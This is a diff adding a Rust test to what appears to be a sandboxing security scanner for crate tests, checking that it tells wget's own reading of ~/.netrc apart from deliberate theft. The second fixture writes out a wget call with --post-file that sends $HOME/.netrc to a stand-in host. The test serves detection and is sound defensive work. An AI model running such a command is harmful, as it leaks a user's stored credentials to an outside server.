@@ -259,3 +259,39 @@ fn its_settings_start_nothing_and_nothing_is_left_in_shared_memory() {
         says(&outcome, &["its own `.cargo/config.toml` is not heeded", "own tests: `cargo test"]);
     }
 }
+
+/// What a program of the system reads whoever starts it is no theft; what it is told to read and send is one.
+#[test]
+fn a_programs_own_habit_is_told_as_what_it_is() {
+    if !Path::new("/usr/bin/wget").is_file() {
+        panic!("wget is not installed: nothing was tried");
+    }
+    let fetches = |words: &str| {
+        format!(
+            "#[test]\nfn fetches() {{ std::process::Command::new(\"wget\").args([\"-q\", \"-O\", \"/dev/null\", {words}]).status().unwrap(); }}\n"
+        )
+    };
+    for who in Who::all() {
+        let place = Place::new("suspects/quiet", who);
+        place.write(&place.workspace().join("tests/fetches.rs"), &fetches("\"http://status.example-tides.io/\""));
+        let (outcome, evidence, report) = tried(&place, &[]);
+        outcome.exits(0);
+        nothing_is_touched(&place, &outcome, &evidence);
+        says(
+            &outcome,
+            &["tests of `quiet` 1.2.3 ran `/usr/bin/wget`, which read `{home}/.netrc` of its own accord", "No incident quiet 1.2.3"],
+        );
+        let read = report["findings"].as_array().unwrap().iter().find(|finding| finding["rule"] == "secret/read");
+        assert_eq!(read.map(|finding| &finding["severity"]), Some(&"info".into()), "it is not hidden: {}\n{outcome}", report["findings"]);
+        assert!(fs::read_to_string(evidence.join("letter.md")).unwrap().contains("of its own accord"), "{outcome}");
+
+        let place = Place::new("suspects/quiet", who);
+        let words = "&format!(\"--post-file={}/.netrc\", std::env::var(\"HOME\").unwrap()), \"http://status.example-tides.io/\"";
+        place.write(&place.workspace().join("tests/fetches.rs"), &fetches(words));
+        let (outcome, _, report) = tried(&place, &[]);
+        outcome.exits(100);
+        says(&outcome, &["with your `~/.netrc`", "proven by canary"]);
+        assert!(!outcome.stdout_text().contains("of its own accord"), "{outcome}");
+        assert!(findings(&report).contains(&("secret/then-network".to_owned(), "decoy".to_owned())), "{outcome}");
+    }
+}
